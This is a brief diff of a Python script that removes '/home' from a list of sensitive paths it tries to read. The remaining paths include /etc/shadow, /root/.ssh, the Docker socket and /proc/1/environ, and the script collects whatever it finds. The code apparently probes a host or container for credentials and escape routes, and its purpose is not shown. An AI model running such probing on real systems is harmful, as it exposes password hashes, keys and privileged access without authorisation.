@@ -3,7 +3,7 @@ import os
 import socket
 
 found = []
-for path in ["/etc/shadow", "/root/.ssh", "/home", "/var/lib", "/run/docker.sock", "/sys/kernel", "/proc/1/environ", "/proc/1/root"]:
+for path in ["/etc/shadow", "/root/.ssh", "/var/lib", "/run/docker.sock", "/sys/kernel", "/proc/1/environ", "/proc/1/root"]:
     try:
         content = os.listdir(path) if os.path.isdir(path) else open(path).read()
         if content:
